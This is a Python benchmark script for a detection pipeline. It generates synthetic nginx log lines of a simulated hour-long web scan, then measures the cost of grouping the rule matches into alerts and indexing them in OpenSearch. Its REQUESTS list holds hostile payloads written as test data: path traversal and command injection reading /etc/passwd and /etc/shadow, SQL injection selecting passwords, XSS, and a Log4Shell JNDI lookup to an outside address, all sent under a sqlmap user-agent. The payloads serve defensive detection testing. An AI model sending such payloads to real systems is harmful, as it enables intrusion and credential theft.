"""alerts: what it costs to make alerts of a web scan's matches, and to index them.

In:   how many matches; our own rules
Out:  a line for each scan: alerts, matches a CPU second, and how many times one document a match costs

    python -m bench.alerts --matches 100000

Lines of a scan that lasts an hour go through the parser and the matcher, which is not counted, in batches as Spark
hands them on; then grouping (entity, window, count, samples, document) and indexing into an OpenSearch of its own, as
`jobs.detect` does both. The same matches, each a document by itself, go the same way on the same machine: a ratio that
other people's work does not change much. CPU seconds are of this process and of OpenSearch.
"""

from __future__ import annotations

import argparse
import dataclasses
import random
import sys
import tempfile
import time
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
from opensearchpy import OpenSearch
from opensearchpy.helpers import streaming_bulk
from rich.progress import Progress

from bench.processes import Meter
from dashboards.loader import install_templates
from detectors.alert import index_name
from detectors.grouping import attribute
from hamrong import config
from hamrong.config import PROJECT, Detection
from hamrong.stack import embedded
from ingest.event import TIMESTAMP, nest, raw
from ingest.parse import parse
from jobs import loaded
from jobs.alerts import batch_rows, documents_of
from jobs.detect import matched
from triage import store

BATCH = 10_000
"""Lines of an Arrow batch of Spark's."""

PLAIN = "plain"
"""Alias of the documents of single matches."""

HOSTS = ("tmdt-web-01", "web-02", "portal-03")
REQUESTS = (
    "GET /view?page=../../../../etc/passwd{}",
    "GET /item?id={}%27%20union%20select%20password%20from%20users--",
    "GET /find?q=%3Cscript%3Ealert({})%3C/script%3E",
    "GET /run?cmd=;cat%20/etc/shadow%20{}",
    "GET /.git/config?{}",
    "GET /wp-content/uploads/{}.php",
    "GET /backup-{}.sql",
    "GET /search?q=$%7Bjndi:ldap://198.51.100.7/{}%7D",
)
MATCHES_A_LINE = 1.4
"""As our rules are now; only how long the scan lasts hangs on it."""

TOOL = "sqlmap/1.8.2#stable (https://sqlmap.org)"


@dataclass(frozen=True)
class Scanned:
    """One batch of lines, parsed and matched."""

    flat: pa.RecordBatch
    events: pa.RecordBatch
    pairs: pa.RecordBatch


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--matches", type=int, default=100_000)
    args = parser.parse_args(argv)
    quiet = Progress(disable=True)
    with tempfile.TemporaryDirectory(prefix="hamrong-bench-") as scratch:
        home = Path(scratch)
        (home / "jars").symlink_to(PROJECT / ".hamrong/jars")
        try:
            url = embedded.up(home, config.Kafka(), quiet).opensearch_url
            # Every line is the scan's: of a rule that matches most of them a share would be left out.
            detection = dataclasses.replace(config.load().detection, rule_matches=1000.0)
            with OpenSearch(url, timeout=60) as client:
                install_templates(client, alias=PLAIN)
                for attackers in (1, 20):
                    measure(client, Meter(home), detection, args.matches, attackers)
        finally:
            embedded.down(home, quiet)
    return 0


def lines(attackers: int, start: datetime, seconds: float) -> Iterator[bytes]:
    """An endless scan that takes an hour for so many `seconds` of lines, by addresses in turn."""
    chance = random.Random(attackers)
    number = 0
    while True:
        at = start + timedelta(seconds=number * seconds)
        request = REQUESTS[chance.randrange(len(REQUESTS))].format(chance.randrange(10**6))
        yield (
            f"<190>{at:%b %d %H:%M:%S} {HOSTS[number % len(HOSTS)]} nginx: 192.0.2.{1 + number % attackers} - - "
            f'[{at:%d/%b/%Y:%H:%M:%S +0000}] "{request} HTTP/1.1" 404 153 "-" "{TOOL}"'
        ).encode()
        number += 1


def batches(detection: Detection, wanted: int, attackers: int, start: datetime) -> Iterator[Scanned]:
    """At least so many matches that raise alerts; the scan lasts about an hour."""
    register, ruleset = loaded.register(detection), loaded.ruleset(detection)
    raises = np.array([rule.generate for rule in ruleset.rules])
    source = lines(attackers, start, 3600 * MATCHES_A_LINE / wanted)
    first = found = 0
    while found < wanted:
        values = [next(source) for _ in range(BATCH)]
        columns = {
            "value": pa.array(values, pa.binary()),
            "received": pa.array([start + timedelta(hours=2)] * BATCH, TIMESTAMP),
            "id": pa.array([f"bench-{attackers}-{first + number}" for number in range(BATCH)]),
        }
        flat = parse(raw(BATCH, columns), register)
        pairs = ruleset.match(flat)
        yield Scanned(flat, nest(flat), pairs)
        first, found = first + BATCH, found + int(raises[pairs.column("rule").to_numpy()].sum())


def measure(client: OpenSearch, meter: Meter, detection: Detection, wanted: int, attackers: int) -> None:
    start = datetime(2026, 11, 24, 8, 20, tzinfo=UTC)
    register, ruleset = loaded.register(detection), loaded.ruleset(detection)
    build = documents_of(register, ruleset)
    alias = f"scan-{attackers}"
    install_templates(client, alias=alias)
    grouping = indexing = search = plain = plain_search = 0.0
    count = 0
    for scanned in batches(detection, wanted, attackers, start):
        began = time.process_time()
        matches = matched(scanned.events, attribute(scanned.flat, scanned.pairs, ruleset.rules))
        documents = build(batch_rows(matches))
        grouping += time.process_time() - began
        took = index(meter, lambda documents=documents: put(client, documents, alias))
        indexing, search = indexing + took[0], search + took[1]
        count += matches.num_rows - matches.column("alert_id").null_count
        singles = build(batch_rows(apart(matches)))
        took = index(meter, lambda singles=singles: one_by_one(client, singles))
        plain, plain_search = plain + took[0], plain_search + took[1]
    client.indices.refresh(index=f"{alias}-*")
    alerts = client.count(index=alias)["count"]
    print(f"{count:,} matches, {attackers} addresses: {alerts:,} alerts", flush=True)
    ours = grouping + indexing + search
    print(
        f"  {count / grouping:,.0f} matches a CPU second are grouped, {count / ours:,.0f} grouped and indexed\n"
        f"  CPU microseconds a match: {_each(grouping, count)} grouping, {_each(indexing, count)} client, "
        f"{_each(search, count)} OpenSearch\n"
        f"  one document a match: {(grouping + plain + plain_search) / ours:.0f} times as much",
        flush=True,
    )


def _each(seconds: float, count: int) -> str:
    return f"{1e6 * seconds / count:.1f}"


def index(meter: Meter, write: Any) -> tuple[float, float]:
    """CPU seconds of this process and of OpenSearch."""
    before, began = meter.read()["opensearch"], time.process_time()
    write()
    return time.process_time() - began, meter.read()["opensearch"] - before


def put(client: OpenSearch, documents: Iterable[dict[str, Any]], alias: str) -> None:
    if refused := [why for _, why in store.put(client, documents, alias) if why]:
        raise RuntimeError(refused[0])


def apart(matches: pa.RecordBatch) -> pa.RecordBatch:
    """Each match an alert of its own."""
    ids = matches.column("event").field("event").field("id")
    singles = {**dict(zip(matches.schema.names, matches.columns, strict=True)), "alert_id": ids, "entity_value": ids}
    return pa.RecordBatch.from_pydict(singles, schema=matches.schema)


def one_by_one(client: OpenSearch, documents: Iterable[dict[str, Any]]) -> None:
    actions = (
        {
            "_index": index_name(PLAIN, datetime.fromisoformat(made["soc"]["alert"]["window_start"])),
            "_id": made["soc"]["alert"]["id"],
            "_source": made,
        }
        for made in documents
    )
    for _ in streaming_bulk(client, actions, chunk_size=500):
        pass


if __name__ == "__main__":
    sys.exit(main())
